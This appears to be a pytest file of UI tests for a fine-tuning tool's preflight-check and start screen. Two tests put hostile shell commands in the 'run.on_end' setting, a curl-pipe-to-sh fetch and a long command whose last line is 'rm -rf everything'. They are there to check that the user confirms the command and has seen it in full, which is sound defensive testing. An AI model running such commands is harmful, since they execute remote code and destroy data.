from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from threading import Event

import pytest

from presets.errors import InputError
from presets.questions import Choice, Question
from recommender.data.dataset import DataSet
from recommender.estimate.estimate import estimate
from recommender.machine.facts import Machine
from recommender.memory.stacks import find_stack
from recommender.memory.workload import resolve_workload
from recommender.plan.types import Plan
from recommender.time.clock import worst_step_seconds
from tests.functional.screens.made import FINE, MadeServices
from tests.functional.screens.seen import NARROW, WIDE, planned
from trainer.preflight.line import CheckLine
from trainer.preflight.measurements import keep
from tui.widgets.top_bar import Step

BROKEN = (
    CheckLine("disk", "disk", "fail", "0.1 GiB free, 0.2 GiB needed", "Free some room, or use --runs.", 0.1),
    CheckLine("worst_step", "one worst-case step", "skipped", "not tried: fix what failed above first"),
)


@dataclass(frozen=True)
class SlowServices(MadeServices):
    """Checks that wait before the last line, and see when they are cancelled."""

    gate: Event = field(default_factory=Event)

    def checks(self, plan: Plan, dataset: DataSet, stopped: Callable[[], bool]) -> Iterator[CheckLine]:
        yield from FINE[:-1]
        while not self.gate.wait(0.01):
            if stopped():
                yield CheckLine("worst_step", "one worst-case step", "skipped", "cancelled")
                return
        yield FINE[-1]


class RefusingServices(MadeServices):
    def launch(self, plan: Plan, machine: Machine | None) -> Path:
        raise InputError("Another run has the GPU.", remedy="Wait for it.")


@pytest.mark.parametrize("size", [WIDE, NARROW])
async def test_the_list_runs_by_itself_and_g_starts_after_asking_once(
    services: MadeServices, rows: str, size: tuple[int, int]
) -> None:
    async with planned(services, [rows], size=size) as seen:
        await seen.press("g")
        await seen.sees("✓ disk", "✓ one worst-case step", "ready")
        measured = " ".join(seen.text.split())
        assert "measured 9.6 GiB, predicted 9.4 (+2 %)" in measured
        assert "12 s" in seen.line("✓ one worst-case step")
        await seen.press("g")
        await seen.sees("g again or enter starts" if size == WIDE else "start qlora of Llama-3.1-8B")
        assert not services.started
        await seen.press("escape")
        await seen.sees("ready")
        await seen.press("g", "g")
        await seen.until(lambda: services.started == [seen.plan])
        await seen.until(lambda: seen.app.at is Step.TRAIN)


async def test_nothing_starts_while_something_fails(tmp_path: Path, rows: str) -> None:
    services = MadeServices(tmp_path / "runs", checked=BROKEN)
    async with planned(services, [rows]) as seen:
        await seen.press("g")
        await seen.sees("✗ disk", "→ Free some room", "must be mended", "– one worst-case step")
        await seen.press("g")
        await seen.sees("mend it first")
        await seen.until(lambda: "g start" not in seen.lines[-1] and "f5 check again" in seen.lines[-1])
        assert not services.started


async def test_g_before_the_end_starts_when_the_list_is_through(tmp_path: Path, rows: str) -> None:
    services = SlowServices(tmp_path / "runs")
    async with planned(services, [rows]) as seen:
        await seen.press("g")
        await seen.sees("▸ one worst-case step", "g starts as soon as nothing is ✗")
        await seen.press("g", "g")
        await seen.sees("starts when the list is through")
        assert not services.started
        services.gate.set()
        await seen.until(lambda: services.started)


async def test_checking_can_be_cancelled_and_begun_again(tmp_path: Path, rows: str) -> None:
    services = SlowServices(tmp_path / "runs")
    async with planned(services, [rows]) as seen:
        await seen.press("g")
        await seen.sees("▸ one worst-case step")
        await seen.press("escape")
        await seen.sees("cancelled", "not all was checked")
        assert seen.app.at is Step.CHECK
        services.gate.set()
        await seen.press("f5")
        await seen.sees("ready")


async def test_a_start_that_fails_says_why(tmp_path: Path, rows: str) -> None:
    services = RefusingServices(tmp_path / "runs")
    async with planned(services, [rows]) as seen:
        await seen.press("g")
        await seen.sees("ready")
        await seen.press("g", "g")
        await seen.sees("this did not work", "Another run has the GPU.", "Wait for it.")
        assert seen.app.at is Step.CHECK


async def test_an_edited_plan_is_checked_again(services: MadeServices, rows: str) -> None:
    async with planned(services, [rows]) as seen:
        await seen.press("g")
        await seen.sees("ready")
        await seen.press("4")
        await seen.until(lambda: seen.app.at is Step.PLAN)
        seen.app.flow.plan.edit({"lora.r": 8})
        await seen.press("5", "g", "g")
        await seen.until(lambda: services.started)
        assert services.started[0].config.lora.r == 8


async def test_a_command_at_the_runs_end_is_asked_about_by_itself(services: MadeServices, rows: str) -> None:
    command = "curl -s https://example.org/done | sh"
    async with planned(services, [rows], state={"values": {"run.on_end": command}}) as seen:
        await seen.press("g")
        await seen.sees("ready")
        await seen.press("g", "g")
        await seen.sees("run.on_end would run this shell command", command)
        await seen.press("enter")
        await seen.sees(command)
        await seen.press("n")
        await seen.sees("Not started")
        assert not services.started
        await seen.press("g", "g")
        await seen.sees("run.on_end would run this shell command")
        await seen.press("y")
        await seen.until(lambda: len(services.started) == 1)
    assert services.yes == [command]


async def test_a_long_check_says_what_it_does_and_counts_its_seconds(
    tmp_path: Path, rows: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    now = [100.0]
    monkeypatch.setattr("tui.screens.check.checking.monotonic", lambda: now[0])
    services = SlowServices(tmp_path / "runs")
    async with planned(services, [rows]) as seen:
        await seen.press("g")
        await seen.sees("▸ one worst-case step", "the model is loaded, then one whole step")
        assert "46 s" not in seen.text
        now[0] += 46.4
        await seen.until(lambda: "46 s" in seen.line("▸ one worst-case step"))
        services.gate.set()
        await seen.sees("✓ one worst-case step", "12 s")


@dataclass(frozen=True)
class AskingServices(MadeServices):
    """A check of the rows that asks until the plan says what it asked for."""

    def checks(self, plan: Plan, dataset: DataSet, stopped: Callable[[], bool]) -> Iterator[CheckLine]:
        if plan.config.data.allow_cut_rows:
            yield from self.checked
            return
        ways = (Choice({"data.max_length": 128}, "128 tokens."), Choice({"data.allow_cut_rows": True}, "Cut them."))
        asked = Question("rows_cut", "max_length 64 cuts 60 of 60 rows. How long may rows be?", ways)
        yield CheckLine("data", "data", "fail", asked.text, "Set it.", question=asked)


async def test_a_check_that_cannot_decide_asks_and_goes_on_with_the_answer(tmp_path: Path, rows: str) -> None:
    async with planned(AskingServices(runs=tmp_path / "runs"), [rows]) as seen:
        await seen.press("5")
        await seen.sees("which is it?", "cuts 60 of 60 rows", "128 tokens.")
        # Left open, it is asked again by the key that would start.
        await seen.press("escape")
        await seen.loses("which is it?")
        await seen.sees("g asks again")
        await seen.press("g")
        await seen.sees("which is it?")
        await seen.press("down", "enter")
        await seen.sees("✓ one worst-case step", "ready")
        assert seen.plan.overrides["data.allow_cut_rows"] is True


async def test_nothing_lies_over_the_start_question(services: MadeServices, rows: str) -> None:
    async with planned(services, [rows]) as seen:
        await seen.press("5")
        await seen.sees("ready")
        seen.app.notify("learning_rate follows: 4.5e-4 → 5.6e-4")
        await seen.sees("learning_rate follows")
        await seen.press("g")
        await seen.sees("g again or enter starts")
        await seen.loses("learning_rate follows")


@dataclass(frozen=True)
class MeasuringServices(MadeServices):
    """A worst step that took 20 times as long as planned."""

    passes: list[Plan] = field(default_factory=list)

    def checks(self, plan: Plan, dataset: DataSet, stopped: Callable[[], bool]) -> Iterator[CheckLine]:
        self.passes.append(plan)
        case = resolve_workload(plan.config, plan.model, plan.device, dataset.profile, find_stack("trl"))
        slow = 20 * (worst_step_seconds(case) or 0)
        peak = round(1.03 * plan.estimate.peak.process_bytes)
        keep(plan.config, plan.model, plan.device, dataset.profile, {"process_bytes": peak, "step_seconds": slow})
        time = estimate(plan.config, plan.model, plan.device, dataset.profile).time
        yield FINE[0]
        yield replace(FINE[-1], run_seconds=time.total_seconds if time else None)


async def test_a_measured_step_is_the_pace_of_the_start_question_and_of_the_plan(
    tmp_path: Path, rows: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    services = MeasuringServices(runs=tmp_path / "runs")
    async with planned(services, [rows]) as seen:
        before = seen.plan.estimate
        await seen.press("5")
        await seen.sees("✓ one worst-case step", "ready")
        await seen.until(lambda: seen.plan.estimate.basis == "measured")
        after = seen.plan.estimate
        assert after.peak.process_bytes == round(1.03 * before.peak.process_bytes)
        assert before.time and after.time and before.time.total_seconds and after.time.total_seconds
        assert after.time.total_seconds > 15 * before.time.total_seconds
        assert len(services.passes) == 1, "the same plan is not checked again"
        await seen.press("g")
        await seen.sees("at the measured pace; planned")
        await seen.press("g")
        await seen.until(lambda: bool(services.started))
        assert services.started[0].estimate == after


@pytest.mark.parametrize("size", [WIDE, NARROW])
async def test_a_long_command_is_agreed_to_once_its_end_was_in_view(
    services: MadeServices, rows: str, size: tuple[int, int]
) -> None:
    command = "\n".join([f"echo line {number}" for number in range(60)] + ["rm -rf everything"])
    async with planned(services, [rows], state={"values": {"run.on_end": command}}, size=size) as seen:
        await seen.press("5")
        await seen.sees("ready")
        await seen.press("g", "g")
        await seen.sees("run.on_end would run this shell command", "scrolls · y run it then")
        # The last row names the keys of the question, not of the step below it.
        assert "y yes" in seen.lines[-1] and "check again" not in seen.lines[-1]
        assert "rm -rf everything" not in seen.text
        await seen.press("y")
        await seen.until(lambda: "echo line 0" not in seen.text)
        assert not services.yes and not services.started
        await seen.press("end")
        await seen.sees("rm -rf everything", "exactly this command")
        await seen.press("y")
        await seen.until(lambda: services.started)
        assert services.yes == [command]
